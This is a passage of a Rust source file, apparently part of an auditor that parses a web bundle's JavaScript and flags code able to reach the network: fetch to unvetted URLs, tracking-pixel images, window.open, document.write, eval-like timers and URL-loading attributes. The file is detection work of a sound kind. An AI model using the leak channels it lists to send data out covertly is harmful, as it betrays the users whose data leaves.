//! The rules: what in a parsed JS file reaches the network, and which uses are the bundle's
//! allowed channels (the model named by `data-model`, the own `.wasm`, the own modules).
//!
//! Every name is judged where it is reached: an unresolved reference (a browser global),
//! a member (`x.sendBeacon` whatever `x` is: any DOM node leads to the document and the
//! window), a destructured key, a constant computed key. Values that are browser globals are
//! followed through bindings (`js.rs`); where one flows beyond them (an argument to code the
//! audit cannot see, an array, an object, a return) it is a violation, as is a computed
//! key it cannot resolve on a global. What cannot be proved harmless fails.
//!
//! Code in a glue function behind a Wasm import runs with arguments from the Wasm, so calls
//! whose reach depends on names held as data (`createElement(x)`, `setAttribute(x, …)`,
//! `Reflect.get/set`, calling a function value) are collected in [`Generic`] and judged by
//! the Wasm's string literals (`bundle.rs`).

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use oxc_ast::ast::*;
use oxc_ast_visit::{walk, Visit};
use oxc_span::{GetSpan, Span};
use oxc_syntax::operator::{AssignmentOperator, UnaryOperator};

use super::bundle::resolve;
use super::catalogue::*;
use super::js::{inner, Js, Val, Vals};
use super::report::{ChannelKind, Report, Site, StorageKey};

/// Where the code being judged is reached from.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Mode<'m> {
    /// Code that runs when the file is loaded or called from the page.
    TopLevel,
    /// The glue function behind a Wasm import: arguments come from the Wasm.
    Import(&'m str),
}

/// Capabilities whose reach depends on names held as data (in the Wasm).
#[derive(Clone, Default)]
pub struct Generic {
    pub create_element: Vec<Site>,
    pub set_attribute: Vec<Site>,
    pub reflect_get: Vec<Site>,
    pub reflect_set: Vec<Site>,
    pub call: Vec<Site>,
    pub global: Vec<Site>,
}

/// The bundle's files, for `import()` and URL checks: paths as deployed.
pub struct Shipped<'s> {
    pub js: &'s BTreeSet<PathBuf>,
    pub wasm: &'s BTreeSet<PathBuf>,
}

pub struct Checker<'c, 'a> {
    pub js: &'c Js<'a>,
    pub name: &'c str,
    /// Where the file sits when deployed (relative imports resolve from there).
    pub at: &'c Path,
    pub shipped: &'c Shipped<'c>,
    pub mode: Mode<'c>,
    pub report: &'c mut Report,
    pub generic: &'c mut Generic,
    /// String literals of the file, for names held as data in top-level code.
    pub strings: &'c BTreeSet<String>,
    /// Whether anything from the catalogue was listed (for a glue function).
    pub listed_any: bool,
    /// Names narrowed by an enclosing test (`if (k === 'a' || k === 'b')`).
    narrow: Vec<(oxc_semantic::SymbolId, BTreeSet<String>)>,
    /// Import entries are judged only when the Wasm imports them.
    pub skip_entries: bool,
}

fn is_global(v: &Vals) -> bool {
    v.iter().any(|x| matches!(x, Val::Global(_)))
}

fn globals(v: &Vals) -> impl Iterator<Item = &Vec<String>> {
    v.iter().filter_map(|x| match x {
        Val::Global(p) => Some(p),
        _ => None,
    })
}

/// DOM constructors: their prototypes hold every element's setters and methods.
fn dom_constructor(name: &str) -> bool {
    (name.starts_with("HTML") || name.starts_with("SVG")) && !INERT_GLOBALS.contains(&name)
        || matches!(
            name,
            "Element"
                | "Node"
                | "Document"
                | "Window"
                | "EventTarget"
                | "Location"
                | "Navigator"
                | "History"
                | "FontFace"
                | "Worklet"
                | "CSS"
                | "DOMParser"
                | "Range"
                | "CSSStyleDeclaration"
                | "StyleSheet"
                | "XSLTProcessor"
                | "Function"
                | "Reflect"
                | "ServiceWorkerContainer"
        )
}

/// A global value that must not flow beyond what the audit follows: the global object,
/// the document, navigator, location, network-capable constructors and functions, DOM
/// prototypes, and members of those the audit cannot name.
fn dangerous(p: &[String]) -> bool {
    let Some(first) = p.first() else {
        return true;
    };
    let last = p.last().map(String::as_str).unwrap_or("");
    if GUARDED.contains(&last) || network(last).is_some() || is_sink(last) {
        return true;
    }
    let container = |q: &[String]| {
        q.is_empty()
            || matches!(q, [x] if matches!(x.as_str(), "document" | "navigator" | "location" | "history"))
            || dom_constructor(&q[0]) && (q.len() == 1 || q.iter().any(|s| s == "prototype"))
    };
    for (i, seg) in p.iter().enumerate() {
        if seg == "*" && container(&p[..i]) {
            return true;
        }
    }
    if dom_constructor(first) && (p.len() == 1 || p.iter().any(|s| s == "prototype")) {
        return true;
    }
    false
}

impl Generic {
    pub fn merge(&mut self, o: &Generic) {
        self.create_element.extend(o.create_element.iter().cloned());
        self.set_attribute.extend(o.set_attribute.iter().cloned());
        self.reflect_get.extend(o.reflect_get.iter().cloned());
        self.reflect_set.extend(o.reflect_set.iter().cloned());
        self.call.extend(o.call.iter().cloned());
        self.global.extend(o.global.iter().cloned());
    }
}

impl<'c, 'a> Checker<'c, 'a> {
    #[allow(clippy::too_many_arguments)]
    pub fn new(
        js: &'c Js<'a>,
        name: &'c str,
        at: &'c Path,
        shipped: &'c Shipped<'c>,
        mode: Mode<'c>,
        report: &'c mut Report,
        generic: &'c mut Generic,
        strings: &'c BTreeSet<String>,
    ) -> Self {
        Checker {
            js,
            name,
            at,
            shipped,
            mode,
            report,
            generic,
            strings,
            listed_any: false,
            narrow: Vec::new(),
            skip_entries: matches!(mode, Mode::TopLevel),
        }
    }

    fn via(&self) -> Option<&str> {
        match self.mode {
            Mode::TopLevel => None,
            Mode::Import(n) => Some(n),
        }
    }

    pub fn site(&self, span: Span) -> Site {
        Site {
            file: self.name.to_string(),
            line: self.js.line(span),
            via: self.via().map(String::from),
        }
    }

    fn violate(&mut self, api: &str, span: Span, why: impl Into<String>) {
        let s = self.site(span);
        self.report.violate(api, &s, why);
    }

    fn channel(&mut self, kind: ChannelKind, span: Span, detail: impl Into<String>) {
        let s = self.site(span);
        self.report.channel(kind, &s, detail);
    }

    fn list(&mut self, name: &str, obj: Option<&str>, span: Span) {
        if let Some((g, display)) = catalogue(name, obj) {
            self.listed_any = true;
            if name != "fetch" {
                let s = self.site(span);
                self.report.add_use(g, display, &s);
            }
        }
    }

    fn import_mode(&self) -> bool {
        matches!(self.mode, Mode::Import(_))
    }

    /// A name reached (as a global, a member, a key): listed, and the always-network ones
    /// fail wherever they are reached.
    fn reach(&mut self, name: &str, obj: Option<&str>, span: Span) {
        self.list(name, obj, span);
        if let Some(why) = network(name) {
            self.violate(name, span, why);
        } else if is_sink(name) {
            self.violate(
                name,
                span,
                "a markup or code sink can create any element, and so any request",
            );
        }
    }

    /// The global name of a value, for the catalogue's `obj` (`Date` in `Date.now`).
    fn obj_name(v: &Vals) -> Option<String> {
        globals(v).find_map(|p| p.last().cloned())
    }

    /// A value flows where the audit does not follow it.
    fn escape(&mut self, e: &Expression<'a>, how: &str) {
        let v = self.js.eval(e);
        for p in globals(&v) {
            if self.import_mode() && p.is_empty() {
                let s = self.site(e.span());
                self.generic.global.push(s);
                continue;
            }
            if dangerous(p) {
                let shown = if p.is_empty() {
                    "the global object".to_string()
                } else {
                    p.join(".")
                };
                self.violate(
                    &format!("{shown} ({how})"),
                    e.span(),
                    format!(
                        "{}: a browser API flows where the audit cannot follow it",
                        self.js.text(e.span())
                    ),
                );
                return;
            }
        }
    }

    fn args_escape(&mut self, args: &oxc_allocator::Vec<'a, Argument<'a>>, how: &str) {
        for a in args {
            match a {
                Argument::SpreadElement(s) => self.escape(&s.argument, how),
                a => {
                    if let Some(e) = a.as_expression() {
                        self.escape(e, how)
                    }
                }
            }
        }
    }

    fn arg<'x>(
        args: &'x oxc_allocator::Vec<'a, Argument<'a>>,
        i: usize,
    ) -> Option<&'x Expression<'a>> {
        args.get(i).and_then(|a| a.as_expression())
    }

    /// A call: `callee(args)`, judged by every name the callee can be.
    fn judge_call(
        &mut self,
        callee: &Expression<'a>,
        args: &oxc_allocator::Vec<'a, Argument<'a>>,
        span: Span,
        is_new: bool,
    ) {
        let callee_in = inner(callee);
        // The names the callee can be, with the values of their object.
        let mut names: Vec<(String, Vals)> = Vec::new();
        let mut local_fn = false;
        match callee_in {
            Expression::StaticMemberExpression(m) => {
                names.push((m.property.name.to_string(), self.js.eval(&m.object)));
            }
            Expression::ComputedMemberExpression(m) => {
                let obj = self.js.eval(&m.object);
                match self.js.strings(&m.expression) {
                    // A choice among names on a global is reported as such (below).
                    Some(keys) if self.computed_choice(&obj, &keys, &m.expression) => {}
                    Some(keys) => names.extend(keys.into_iter().map(|k| (k, obj.clone()))),
                    None => {
                        if self.import_mode() {
                            let s = self.site(span);
                            self.generic.call.push(s);
                        } else if globals(&obj).any(|p| dangerous(p)) {
                            self.violate(
                                "computed method call",
                                span,
                                format!(
                                    "{}: a method of a browser global named by data",
                                    self.js.text(callee.span())
                                ),
                            );
                        } else {
                            // A method named by data: judged by the names the file holds.
                            let held: Vec<String> = self
                                .strings
                                .iter()
                                .filter(|s| CALL_DANGER.contains(&s.as_str()))
                                .cloned()
                                .collect();
                            for h in held {
                                self.violate(
                                    &format!("[{h:?}](…)"),
                                    span,
                                    format!(
                                        "{}: a method named by data, and the file holds this name",
                                        self.js.text(callee.span())
                                    ),
                                );
                            }
                        }
                    }
                }
            }
            Expression::Identifier(id) => {
                if let Some(sym) = self.js.symbol(id) {
                    // A local function whose every use is a direct call: its parameters
                    // take exactly these arguments, and are followed there.
                    local_fn = self
                        .js
                        .fns
                        .get(&sym)
                        .is_some_and(|f| !f.escapes && !f.exported);
                }
                // A function imported from a file of the bundle (a wasm-bindgen snippet)
                // is read where it is defined.
                let imported = self
                    .js
                    .symbol(id)
                    .is_some_and(|s| self.js.scoping.symbol_flags(s).is_import());
                let v = self.js.eval(callee_in);
                if v.contains(&Val::Other) && self.import_mode() && !local_fn && !imported {
                    let s = self.site(span);
                    self.generic.call.push(s);
                }
                for p in globals(&v) {
                    match p.split_last() {
                        Some((last, rest)) => names.push((
                            last.clone(),
                            if rest.is_empty() {
                                BTreeSet::from([Val::Global(Vec::new())])
                            } else {
                                BTreeSet::from([Val::Global(rest.to_vec())])
                            },
                        )),
                        None => self.violate(
                            "the global object (called)",
                            span,
                            "calling the global object",
                        ),
                    }
                }
            }
            _ => {
                // `f()()`, `(0, x.y)()`, `(a || fetch)()`: judged by the value.
                let v = self.js.eval(callee_in);
                for p in globals(&v) {
                    if let Some((last, rest)) = p.split_last() {
                        names.push((last.clone(), BTreeSet::from([Val::Global(rest.to_vec())])));
                    }
                }
            }
        }
        let to_wasm = match callee_in {
            Expression::StaticMemberExpression(m) => self.js.is_wasm_exports(&m.object, 0),
            _ => false,
        };
        if to_wasm {
            // Handed to the Wasm (the externref table): what the Wasm can do with it is
            // judged through its imports.
            for a in args.iter().filter_map(|a| a.as_expression()) {
                if globals(&self.js.eval(a)).any(|p| p.is_empty()) {
                    let s = self.site(a.span());
                    self.generic.global.push(s);
                }
            }
        } else if !local_fn {
            self.args_escape(args, "passed to a function");
        }
        for (name, obj) in names {
            self.call_named(&name, &obj, callee, args, span, is_new);
        }
    }

    fn call_named(
        &mut self,
        name: &str,
        obj: &Vals,
        callee: &Expression<'a>,
        args: &oxc_allocator::Vec<'a, Argument<'a>>,
        span: Span,
        is_new: bool,
    ) {
        let on_global = globals(obj).any(|p| p.is_empty());
        let objs: Vec<String> = globals(obj).filter_map(|p| p.last().cloned()).collect();
        let obj_is = |n: &str| objs.iter().any(|o| o == n);
        let import = self.import_mode();
        match name {
            "fetch" => self.fetch(args, span),
            "open" if !(obj_is("indexedDB") || obj_is("caches")) => {
                self.violate("window.open", span, "opens a URL in another window")
            }
            "write" | "writeln" if !objs.is_empty() || obj.contains(&Val::Other) => self.violate(
                "document.write",
                span,
                "a markup sink can create any element",
            ),
            "submit" | "requestSubmit" => self.violate(
                &format!("form.{name}"),
                span,
                "submits a form to its action URL",
            ),
            "assign" | "replace" | "navigate" if obj_is("location") || obj_is("navigation") => {
                self.violate(&format!("location.{name}"), span, "navigates to a URL")
            }
            "Function" if objs.is_empty() || on_global => {
                self.violate("Function constructor", span, "runs code from a string")
            }
            "Image" | "Audio" if is_new && on_global => self.violate(
                &format!("new {name}()"),
                span,
                "a detached media element requests its src at once (a tracking pixel)",
            ),
            "setTimeout" | "setInterval" if on_global || obj.contains(&Val::Other) => {
                let f = Self::arg(args, 0).map(|e| self.js.eval(e));
                let ok = f.is_some_and(|v| v.iter().all(|x| *x == Val::Func));
                if !ok {
                    self.violate(name, span, "a timer given a string runs it as code (eval)");
                }
            }
            "setAttribute" | "setAttributeNS" => {
                let at = usize::from(name == "setAttributeNS");
                self.set_attribute(Self::arg(args, at), Self::arg(args, at + 1), span)
            }
            "createElement" | "createElementNS" => {
                let at = usize::from(name == "createElementNS");
                if at == 1 {
                    // SVG's <image>, <use> and <feImage> load their href.
                    if let Some(tags) = Self::arg(args, 1).and_then(|t| self.js.strings(t)) {
                        for t in tags {
                            if matches!(t.to_ascii_lowercase().as_str(), "image" | "use" | "feimage") {
                                self.violate(
                                    &format!("createElementNS(…, '{t}')"),
                                    span,
                                    "an SVG element that loads its href",
                                );
                            }
                        }
                    }
                }
                self.create_element(Self::arg(args, at), span)
            }
            // CSSStyleSheet.replace(text) (String.prototype.replace takes two arguments).
            "replace" if args.len() == 1 => {
                if let Some(v) = Self::arg(args, 0) {
                    self.css_value(v, span);
                }
            }
            "insertRule" | "replaceSync" | "setProperty" => {
                let at = usize::from(name == "setProperty");
                if let Some(v) = Self::arg(args, at) {
                    self.css_value(v, span);
                }
            }
            "get" | "set" | "apply" | "construct" | "defineProperty" if obj_is("Reflect") => {
                self.reflect(name, args, span)
            }
            "call" | "apply" => {
                // `f.call(this, …)`, `f.apply(this, args)`: judged as a call of `f`.
                let target = match inner(callee) {
                    Expression::StaticMemberExpression(m) => self.js.eval(&m.object),
                    _ => BTreeSet::new(),
                };
                if import && target.contains(&Val::Other) {
                    let s = self.site(span);
                    self.generic.call.push(s);
                }
                for p in globals(&target) {
                    if dangerous(p) {
                        self.violate(
                            &format!("{}.{name}", p.join(".")),
                            span,
                            "a browser API called indirectly, with arguments the audit cannot check",
                        );
                    }
                }
            }
            "constructor" => self.violate(
                "Function constructor",
                span,
                "x.constructor(…) reaches the Function constructor from any function: it runs code from a string",
            ),
            "createAttribute" | "createAttributeNS" | "getAttributeNode" | "getAttributeNodeNS" => {
                // An attribute node's value is set apart from its name: a URL attribute's
                // node is a URL written from anywhere.
                let at = usize::from(name.ends_with("NS"));
                match Self::arg(args, at).and_then(|a| self.js.strings(a)) {
                    Some(names) => {
                        for n in names {
                            let l = n.to_ascii_lowercase();
                            if is_danger_attr(&l) || l == "src" || l == "href" {
                                self.violate(
                                    &format!("{name}('{n}')"),
                                    span,
                                    "the node of an attribute that requests a URL or runs code",
                                );
                            }
                        }
                    }
                    None => self.violate(
                        &format!("{name}(…)"),
                        span,
                        "an attribute node named by data",
                    ),
                }
            }
            "getItem" | "setItem" | "removeItem" => {
                let area = if obj_is("sessionStorage") {
                    "sessionStorage"
                } else {
                    "localStorage"
                };
                if let Some(k) = Self::arg(args, 0) {
                    self.storage_key(k, area, span);
                }
            }
            "default" | "initSync" if !import && !args.is_empty() => self.glue_init(args, span),
            _ => {}
        }
    }

    /// The glue's init fetches what it is given: only the own `.wasm` (or a fetch of it,
    /// judged where it is made) may be passed.
    fn glue_init(&mut self, args: &oxc_allocator::Vec<'a, Argument<'a>>, span: Span) {
        fn ok<'a>(c: &mut Checker<'_, 'a>, e: &Expression<'a>) -> bool {
            match inner(e) {
                Expression::Identifier(id) if id.name == "undefined" => true,
                Expression::UnaryExpression(u) if u.operator == UnaryOperator::Void => true,
                Expression::ConditionalExpression(x) => ok(c, &x.consequent) && ok(c, &x.alternate),
                // `a && b` is `a` only when `a` is falsy (no URL but the page's own).
                Expression::LogicalExpression(l) if l.operator == LogicalOperator::And => {
                    ok(c, &l.right)
                }
                Expression::Identifier(id) if c.js.symbol(id).is_some() => {
                    let sym = c.js.symbol(id).expect("resolved");
                    let writes = c.js.writes.get(&sym).cloned().unwrap_or_default();
                    !writes.is_empty()
                        && writes.iter().all(|w| {
                            c.js.write_exprs(w, 0)
                                .is_some_and(|xs| xs.iter().all(|x| ok(c, x)))
                        })
                }
                Expression::CallExpression(call) => {
                    matches!(inner(&call.callee), Expression::Identifier(id) if id.name == "fetch")
                }
                Expression::ObjectExpression(o) => o.properties.iter().all(|p| match p {
                    ObjectPropertyKind::ObjectProperty(p) => {
                        !matches!(
                            p.key.static_name().as_deref(),
                            Some("module_or_path" | "module")
                        ) || ok(c, &p.value)
                    }
                    ObjectPropertyKind::SpreadProperty(_) => false,
                }),
                e => matches!(c.url_kind(e, 0), Ok((ChannelKind::OwnWasm, _))),
            }
        }
        let Some(a) = Self::arg(args, 0) else {
            return;
        };
        // Only a call that can reach the glue's init matters; a string or URL is the danger.
        let v = self.js.eval(a);
        let stringy = v.iter().any(|x| matches!(x, Val::Str(_) | Val::Global(_)));
        if (stringy
            || matches!(inner(a), Expression::ObjectExpression(_))
            || v.contains(&Val::Other))
            && !ok(self, a)
        {
            self.violate(
                "glue init",
                span,
                format!(
                    "{}: the glue's init fetches what it is given, and this is not the own .wasm",
                    self.js.text(a.span())
                ),
            );
        }
    }

    fn reflect(&mut self, name: &str, args: &oxc_allocator::Vec<'a, Argument<'a>>, span: Span) {
        if self.import_mode() {
            let s = self.site(span);
            match name {
                "get" => self.generic.reflect_get.push(s),
                "set" | "defineProperty" => self.generic.reflect_set.push(s),
                _ => self.generic.call.push(s),
            }
            return;
        }
        let key = Self::arg(args, 1).and_then(|k| self.js.strings(k));
        match key {
            Some(keys)
                if matches!(name, "get" | "set" | "defineProperty")
                    && keys.iter().all(|k| !REFLECT_DANGER.contains(&k.as_str())) =>
            {
                if name != "get" {
                    for k in &keys {
                        if k == "src" || k == "href" || URL_ATTRS.contains(&k.as_str()) {
                            self.violate(
                                &format!("Reflect.{name}"),
                                span,
                                format!("writes {k:?}, a URL the browser requests"),
                            );
                        }
                    }
                }
            }
            _ => self.violate(
                &format!("Reflect.{name}"),
                span,
                "reflective access with a key the audit cannot vet",
            ),
        }
    }

    fn storage_key(&mut self, k: &Expression<'a>, area: &str, span: Span) {
        let key = match self.js.strings(k) {
            Some(s) if s.len() == 1 => s.into_iter().next().unwrap_or_default(),
            _ => format!("(computed: {})", self.js.text(k.span())),
        };
        let site = self.site(span);
        self.report.storage_keys.insert(StorageKey {
            key,
            area: area.into(),
            site,
        });
    }

    /// `el.src = v`, `el.href = v`, `setAttribute('src', v)` in JS: the page's code names
    /// the URL, so it must be one the audit can read (a constant, or a `blob:` URL made
    /// here); a URL computed from data could carry it anywhere. (The Wasm's own `src` and
    /// `href` are the catalog image and link channels, judged by its literals.)
    fn url_write(&mut self, attr: &str, value: &Expression<'a>, span: Span) {
        let kind = if attr == "src" {
            ChannelKind::CatalogImage
        } else {
            ChannelKind::Link
        };
        if self.import_mode() {
            self.channel(kind, span, format!("element.{attr} set by the Wasm"));
            return;
        }
        let blob = matches!(inner(value), Expression::CallExpression(c)
            if matches!(inner(&c.callee), Expression::StaticMemberExpression(m)
                if m.property.name == "createObjectURL"));
        match self.js.strings(value) {
            Some(urls) => {
                let shown = urls.into_iter().collect::<Vec<_>>().join(", ");
                self.channel(kind, span, format!("{attr} = {shown}"))
            }
            None if blob => self.channel(kind, span, format!("{attr} = a blob: URL made here")),
            None => self.violate(
                &format!("{attr} = …"),
                span,
                format!(
                    "{}: an element URL computed from data is requested (or followed) with the data in it",
                    self.js.text(value.span())
                ),
            ),
        }
    }

    fn set_attribute(
        &mut self,
        name: Option<&Expression<'a>>,
        value: Option<&Expression<'a>>,
        span: Span,
    ) {
        let names = name.and_then(|n| self.js.strings(n));
        match names {
            Some(names) => {
                for n in names {
                    let s = self.site(span);
                    let l = n.to_ascii_lowercase();
                    match (l.as_str(), value) {
                        ("style", Some(v)) => self.css_value(v, span),
                        ("src" | "href", Some(v)) if !self.import_mode() => {
                            self.url_write(&l, v, span)
                        }
                        _ => check_attr(&n, &s, self.report),
                    }
                }
            }
            None if self.import_mode() => {
                let s = self.site(span);
                self.generic.set_attribute.push(s)
            }
            None => {
                let danger: Vec<String> = self
                    .strings
                    .iter()
                    .filter(|s| is_danger_attr(s))
                    .cloned()
                    .collect();
                for s in danger {
                    self.violate(
                        &format!("setAttribute({s:?}, …)"),
                        span,
                        "an attribute name from data, and the file holds this name",
                    );
                }
            }
        }
    }

    fn create_element(&mut self, tag: Option<&Expression<'a>>, span: Span) {
        let tags = tag.and_then(|t| self.js.strings(t));
        match tags {
            Some(tags) => {
                for t in tags {
                    let s = self.site(span);
                    check_tag(&t, &s, self.report);
                }
            }
            None if self.import_mode() => {
                let s = self.site(span);
                self.generic.create_element.push(s)
            }
            None => {
                let held: Vec<String> = self.strings.iter().cloned().collect();
                for s in held {
                    let l = s.to_ascii_lowercase();
                    if FETCHING_TAGS.contains(&l.as_str()) {
                        self.violate(
                            &format!("createElement({s:?})"),
                            span,
                            "an element name from data, and the file holds this name",
                        );
                    } else if l == "img" {
                        self.channel(
                            ChannelKind::CatalogImage,
                            span,
                            "createElement(name) and the file names img",
                        );
                    }
                }
            }
        }
    }

    /// A CSS text or value from the page's code: constants are checked for `url(` (as
    /// every literal is); anything computed could load a URL.
    fn css_value(&mut self, v: &Expression<'a>, span: Span) {
        if self.import_mode() {
            return; // the Wasm's data is checked for url( as a whole
        }
        if let Some(texts) = self.js.strings(v) {
            for t in texts {
                if let Some(needle) = css_loads(&t) {
                    self.violate(
                        &format!("CSS {needle}"),
                        span,
                        "a stylesheet string can load a URL",
                    );
                }
            }
            return;
        }
        if !self.js.numeric(v, 0) {
            self.violate(
                "CSS from data",
                span,
                format!(
                    "{}: CSS the audit cannot read can load a URL (url(), @import)",
                    self.js.text(v.span())
                ),
            );
        }
    }

    fn fetch(&mut self, args: &oxc_allocator::Vec<'a, Argument<'a>>, span: Span) {
        let site = self.site(span);
        self.report.add_use(Group::Network, "fetch", &site);
        if self.import_mode() {
            self.violate("fetch", span, "the Wasm can call fetch with any URL");
            return;
        }
        let Some(url) = Self::arg(args, 0) else {
            self.violate("fetch", span, "fetch without a URL the audit can read");
            return;
        };
        let (integrity, method) = match Self::arg(args, 1).map(inner) {
            None => (false, false),
            Some(Expression::ObjectExpression(o)) => {
                let mut integrity = false;
                let mut method = false;
                for p in &o.properties {
                    match p {
                        ObjectPropertyKind::ObjectProperty(p) if !p.computed => {
                            match p.key.static_name().as_deref() {
                                Some("integrity") => integrity = true,
                                Some("method" | "body" | "keepalive") => method = true,
                                _ => {}
                            }
                        }
                        _ => method = true,
                    }
                }
                (integrity, method)
            }
            Some(_) => (false, true),
        };
        match self.url_kind(url, 0) {
            Ok((kind @ (ChannelKind::Model | ChannelKind::OwnWasm), detail)) if !method => {
                self.report.integrity.push((kind, site.clone(), integrity));
                self.report.channel(kind, &site, detail);
            }
            Ok((_, detail)) if method => self.violate(
                "fetch",
                span,
                format!("{detail}: fetch with a method, body or options the audit cannot read"),
            ),
            Ok((_, detail)) => self.violate(
                "fetch",
                span,
                format!("fetch({detail}): not the model or the own .wasm"),
            ),
            Err(e) => self.violate(
                "fetch",
                span,
                format!("fetch({e}): not the model or the own .wasm"),
            ),
        }
    }

    fn own_file(&self, spec: &str) -> Option<ChannelKind> {
        let p = resolve(self.at, spec)?;
        if self.shipped.wasm.contains(&p) {
            Some(ChannelKind::OwnWasm)
        } else if self.shipped.js.contains(&p) {
            Some(ChannelKind::OwnModule)
        } else {
            None
        }
    }

    fn is_import_meta_url(e: &Expression) -> bool {
        matches!(inner(e), Expression::StaticMemberExpression(m)
            if m.property.name == "url" && matches!(inner(&m.object), Expression::ImportMeta(_)))
    }

    /// What a URL expression points at, if it is one the bundle may fetch.
    pub fn url_kind(
        &mut self,
        e: &Expression<'a>,
        d: u32,
    ) -> std::result::Result<(ChannelKind, String), String> {
        match self.url_kind_in(e, d) {
            Ok(Some(k)) => Ok(k),
            Ok(None) => Err(format!(
                "{}: only what the importing file passes",
                self.js.text(e.span())
            )),
            Err(e) => Err(e),
        }
    }

    /// `Ok(None)`: a value supplied by the file importing the glue's init, judged where
    /// that file calls it (`glue_init`).
    fn url_kind_in(
        &mut self,
        e: &Expression<'a>,
        d: u32,
    ) -> std::result::Result<Option<(ChannelKind, String)>, String> {
        let e = inner(e);
        let text = self.js.text(e.span());
        if d > 8 {
            return Err(text);
        }
        if let Expression::NewExpression(n) = e {
            if matches!(inner(&n.callee), Expression::Identifier(id) if id.name == "URL" && self.js.symbol(id).is_none())
            {
                let a = Self::arg(&n.arguments, 0);
                let b = Self::arg(&n.arguments, 1);
                if let (Some(a), Some(b)) = (a, b) {
                    if Self::is_import_meta_url(b) {
                        if let Some(specs) = self.js.strings(a) {
                            let kinds: Option<BTreeSet<ChannelKind>> =
                                specs.iter().map(|s| self.own_file(s)).collect();
                            return match kinds {
                                Some(k) if k.len() == 1 => Ok(Some((
                                    *k.iter().next().expect("one"),
                                    specs.into_iter().collect::<Vec<_>>().join(", "),
                                ))),
                                _ => Err(format!("{text}: not a file of this bundle")),
                            };
                        }
                    }
                }
            }
        }
        // `full ? new URL('a.wasm', import.meta.url) : new URL('b.wasm', import.meta.url)`:
        // one channel when both branches are that channel.
        if let Expression::ConditionalExpression(c) = e {
            let a = self.url_kind_in(&c.consequent, d + 1)?;
            let b = self.url_kind_in(&c.alternate, d + 1)?;
            return match (a, b) {
                (Some((ka, ta)), Some((kb, tb))) if ka == kb => {
                    Ok(Some((ka, format!("{ta} or {tb}"))))
                }
                _ => Err(format!("{text}: branches of different kinds")),
            };
        }
        if self.model_derived(e, 0) {
            return Ok(Some((
                ChannelKind::Model,
                format!("{text} (the script tag's data-model attribute)"),
            )));
        }
        if let Some(specs) = self.js.strings(e) {
            let kinds: Option<BTreeSet<ChannelKind>> =
                specs.iter().map(|s| self.own_file(s)).collect();
            return match kinds {
                Some(k) if k == BTreeSet::from([ChannelKind::OwnWasm]) => Ok(Some((
                    ChannelKind::OwnWasm,
                    specs.into_iter().collect::<Vec<_>>().join(", "),
                ))),
                _ => Err(specs
                    .iter()
                    .map(|s| format!("'{s}'"))
                    .collect::<Vec<_>>()
                    .join(" or ")),
            };
        }
        if let Expression::Identifier(id) = e {
            let Some(sym) = self.js.symbol(id) else {
                return Err(text);
            };
            let name = id.name.to_string();
            let mut found = None;
            let mut supplied = false;
            let writes = self.js.writes.get(&sym).cloned().unwrap_or_default();
            for w in &writes {
                let exprs = match self.js.write_exprs(w, 0) {
                    Some(x) => x,
                    None => {
                        // The glue's init takes its URL from the importing file, which is
                        // judged where it calls it (`glue_init`).
                        if self.js.supplied_by_importer(w) {
                            supplied = true;
                            continue;
                        }
                        return Err(format!("{name}: a value the audit cannot trace"));
                    }
                };
                for x in exprs {
                    let xi = inner(x);
                    // The wasm-bindgen init reassigns its parameter to the fetch itself.
                    if let Expression::CallExpression(c) = xi {
                        if matches!(inner(&c.callee), Expression::Identifier(f) if f.name == "fetch")
                        {
                            continue;
                        }
                    }
                    if matches!(xi, Expression::Identifier(o) if self.js.symbol(o) == Some(sym)) {
                        continue;
                    }
                    match self.url_kind_in(x, d + 1) {
                        Ok(Some(k)) => {
                            found.get_or_insert(k);
                        }
                        Ok(None) => supplied = true,
                        Err(e) => return Err(format!("{name} = {e}")),
                    }
                }
            }
            return match (found, supplied) {
                (Some(k), _) => Ok(Some(k)),
                (None, true) => Ok(None),
                (None, false) => Err(format!("{name}: no URL the audit can trace")),
            };
        }
        Err(text)
    }

    /// Whether `e` is (derived from) the URL in the script tag's `data-model` attribute,
    /// such that the request stays on that URL's origin: the attribute itself, `new
    /// URL(attr, base)`, or a relative constant (a model shard) resolved against it.
    fn model_derived(&mut self, e: &Expression<'a>, d: u32) -> bool {
        if d > 8 {
            return false;
        }
        let e = inner(e);
        match e {
            Expression::StaticMemberExpression(m) => {
                (m.property.name == "model" && self.is_dataset(&m.object, d + 1))
                    || (matches!(m.property.name.as_str(), "href" | "toString")
                        && self.model_derived(&m.object, d + 1))
            }
            Expression::CallExpression(c) => match inner(&c.callee) {
                Expression::StaticMemberExpression(m) if m.property.name == "getAttribute" => {
                    Self::arg(&c.arguments, 0)
                        .and_then(|a| self.js.strings(a))
                        .is_some_and(|s| s.iter().all(|x| x == "data-model"))
                }
                Expression::StaticMemberExpression(m) if m.property.name == "toString" => {
                    self.model_derived(&m.object, d + 1)
                }
                Expression::Identifier(id) if id.name == "String" => {
                    Self::arg(&c.arguments, 0).is_some_and(|a| self.model_derived(a, d + 1))
                }
                _ => false,
            },
            Expression::NewExpression(n) if matches!(inner(&n.callee), Expression::Identifier(id) if id.name == "URL") =>
            {
                let (Some(a), b) = (Self::arg(&n.arguments, 0), Self::arg(&n.arguments, 1)) else {
                    return false;
                };
                let base_is_page = b.is_none_or(|b| self.is_page_base(b));
                (self.model_derived(a, d + 1) && base_is_page)
                    || (b.is_some_and(|b| self.model_derived(b, d + 1)) && self.relative(a))
            }
            Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => {
                self.model_derived(&b.left, d + 1)
                    && match self.js.strings(&b.right) {
                        Some(s) => s.iter().all(|x| !x.starts_with('@') && !x.starts_with('/')),
                        None => matches!(inner(&b.left), Expression::BinaryExpression(_)),
                    }
            }
            // `dir ? ds.model + 'head.bin' : ds.model`: the model when both branches are.
            Expression::ConditionalExpression(c) => {
                self.model_derived(&c.consequent, d + 1) && self.model_derived(&c.alternate, d + 1)
            }
            Expression::TemplateLiteral(t) => {
                t.quasis.first().is_some_and(|q| q.value.raw.is_empty())
                    && t.expressions
                        .first()
                        .is_some_and(|x| self.model_derived(x, d + 1))
                    && t.quasis.get(1).is_some_and(|q| {
                        let s = q.value.raw.as_str();
                        !s.is_empty() && !s.starts_with('@') && !s.starts_with("//")
                    })
            }
            Expression::Identifier(id) => {
                let Some(sym) = self.js.symbol(id) else {
                    return false;
                };
                let writes = self.js.writes.get(&sym).cloned().unwrap_or_default();
                !writes.is_empty()
                    && writes.iter().all(|w| {
                        self.js
                            .write_exprs(w, 0)
